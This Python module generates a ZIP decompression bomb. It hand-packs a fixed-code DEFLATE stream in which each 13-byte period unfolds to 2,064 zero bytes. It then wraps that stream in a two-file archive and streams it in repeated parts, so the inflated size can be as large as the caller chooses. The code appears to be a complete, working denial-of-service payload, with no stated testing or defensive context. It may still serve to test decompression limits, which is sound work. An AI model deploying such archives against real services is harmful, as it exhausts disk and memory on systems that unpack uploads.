"""An archive that unfolds to far more than it weighs, made by hand so that it repeats to the byte.

The stream is one block of DEFLATE with fixed codes (RFC 1951, 3.2.6): a zero, then the code for
"the last byte again, 258 times" over and over. Eight of these codes fill 13 bytes.
"""

from __future__ import annotations

import struct
from binascii import crc32

_PERIOD = 13
_UNFOLDED = 8 * 258
_OPEN = "110" + "00110000"  # last block, fixed codes; the literal 0
_AGAIN = "11000101" + "00000"  # length 258, distance 1
_END = "0000000"
_LOCAL, _CENTRAL, _TAIL = 0x04034B50, 0x02014B50, 0x06054B50

Parts = list[tuple[bytes, int]]
"""Bytes to be joined, each so many times."""


def bomb(name: str, turns: int, beside: tuple[str, bytes]) -> Parts:
    """Make a ZIP archive of two files: a stored one, and one of 1 + 2,064 · `turns` zeros."""
    first, last = _folded()
    size, whole = len(first) + _PERIOD * (turns - 1) + len(last), 1 + _UNFOLDED * turns
    stored = _fields(0, beside[1], len(beside[1]), len(beside[1]))
    deflated = _fields(8, bytes(whole), size, whole)
    start = _local(beside[0], stored) + beside[1]
    directory = _central(beside[0], stored, 0) + _central(name, deflated, len(start))
    header = _local(name, deflated)
    place = len(start) + len(header) + size
    tail = struct.pack("<IHHHHIIH", _TAIL, 0, 0, 2, 2, len(directory), place, 0)
    return [
        (start + header + first, 1),
        (_period(), turns - 1),
        (last + directory + tail, 1),
    ]


def _folded() -> tuple[bytes, bytes]:
    """Give the stream's bytes before and after the part that repeats."""
    data = _pack(_OPEN + 8 * _AGAIN + _END)
    return data[:2], data[2:]


def _period() -> bytes:
    data = _pack(_OPEN + 16 * _AGAIN + _END)
    return data[2 : 2 + _PERIOD]


def _pack(bits: str) -> bytes:
    """Fill bytes from their lowest bit up."""
    padded = bits + "0" * (-len(bits) % 8)
    return bytes(int(padded[at : at + 8][::-1], 2) for at in range(0, len(padded), 8))


def _fields(method: int, data: bytes, size: int, whole: int) -> bytes:
    """Give what both headers say of a file; its date is the first that the format has."""
    return struct.pack("<HHHHHIII", 20, 0, method, 0, 33, crc32(data), size, whole)


def _local(name: str, fields: bytes) -> bytes:
    return struct.pack("<I", _LOCAL) + fields + struct.pack("<HH", len(name), 0) + name.encode()


def _central(name: str, fields: bytes, place: int) -> bytes:
    rest = struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, place)
    return struct.pack("<IH", _CENTRAL, 20) + fields + rest + name.encode()
